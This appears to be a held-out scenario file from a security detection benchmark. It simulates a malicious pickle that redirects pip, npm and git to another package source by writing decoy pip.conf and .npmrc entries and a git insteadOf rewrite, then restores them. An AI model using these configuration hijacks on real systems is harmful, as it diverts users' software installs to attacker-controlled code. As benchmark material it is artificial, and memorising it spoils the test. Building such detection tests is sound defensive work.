"""
id: V43
name: install-source-swapped
class: quiet
set: held-out
phase: reload
trigger: model
evidence: [file]
techniques: [T1195.001, T1554, T1565.001, AML.T0010.001, AML.T0011.000]
servers: [fastapi]
seconds: 20
what: >
  A pickle has whatever is installed here next come from somebody else: it writes settings for pip and npm that name another
  source of packages, and adds a line to git's that diverts a host. Nothing is installed, and all is as before after some seconds.
"""

import os


def payload(world):
    source = f"https://{world.host()}"
    folder = os.path.join(world.home, ".config", "pip")
    npm = os.path.join(world.home, ".npmrc")
    git = os.path.join(world.home, ".gitconfig")
    with open(git) as file:
        before = file.read()
    try:
        os.makedirs(folder)
        with open(os.path.join(folder, "pip.conf"), "w") as file:
            file.write(f"# DECOY\n[global]\nextra-index-url = {source}/simple\n")
        world.sleep(world.random.uniform(0.2, 1))
        with open(npm, "w") as file:
            file.write(f"; DECOY\nregistry={source}/npm/\n")
        world.sleep(world.random.uniform(0.2, 1))
        with open(git, "a") as file:
            file.write(f'[url "{source}/"]\n\tinsteadOf = https://git.example/\n')
        world.sleep(world.random.uniform(4, 9))
    finally:
        for path in (os.path.join(folder, "pip.conf"), npm):
            os.unlink(path)
        os.removedirs(folder)
        with open(git, "w") as file:
            file.write(before)
